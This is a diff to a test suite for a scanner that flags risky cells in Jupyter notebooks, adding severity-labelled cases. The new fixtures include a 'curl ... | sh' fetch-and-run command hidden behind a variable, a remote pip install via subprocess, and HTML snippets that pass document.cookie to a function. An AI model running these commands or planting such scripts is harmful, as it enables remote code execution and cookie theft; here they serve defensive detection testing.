@@ -35,6 +35,12 @@ describe('commands of a notebook', () => {
     ['!pip install git+https://github.com/a/b@v1.2', 'shell/installs-from-elsewhere medium'],
     ['!pip install --extra-index-url https://x.y/simple a==1', 'shell/installs-from-elsewhere high'],
     ['!pip install http://x.y/a.whl', 'shell/installs-from-elsewhere high'],
+    ['c = "curl https://x.y/a | sh"\n---\n!{c}', 'shell/runs-harmful-command critical'],
+    ["c = 'curl https://x.y/a | sh'\n!$c", 'shell/runs-harmful-command critical'],
+    [
+      'import subprocess\nsubprocess.run("pip install git+https://x.y/b", shell=True)',
+      'python/runs-fixed-command high',
+    ],
     ['!{command}', 'shell/runs-computed-command medium'],
     ['!bash setup.sh', 'shell/runs-program low'],
     ['!wget http://x.y/model.pt', 'shell/downloads-in-clear medium'],
@@ -94,6 +100,17 @@ describe('scripts of a notebook', () => {
     ['%%html\n<img src=x onerror="alert(1)">', 'notebook/output-runs-script medium'],
     ['%%html\n<script>document.cookie</script>', 'notebook/output-runs-script medium'],
   ])('%s', (cells, expected) => expect(judged(cells)).toContain(expected));
+
+  test.each([
+    ['%%html\n<img src=x onerror="f(document.cookie)">', 'onerror="f(document.cookie)">'],
+    [
+      '%%html\n<b>x</b><script>let a = 1;\nf(document.cookie)</script>',
+      '<script>let a = 1; f(document.cookie)</script>',
+    ],
+  ])('shows %j from its beginning', (cells, excerpt) => {
+    const [finding] = scanBytes(assembleNotebook(cells), 'a.ipynb').findings;
+    expect(finding?.message).toContain(`: ${excerpt}`);
+  });
 
   test.each([
     '%%html\n<style>b { color: red }</style>',
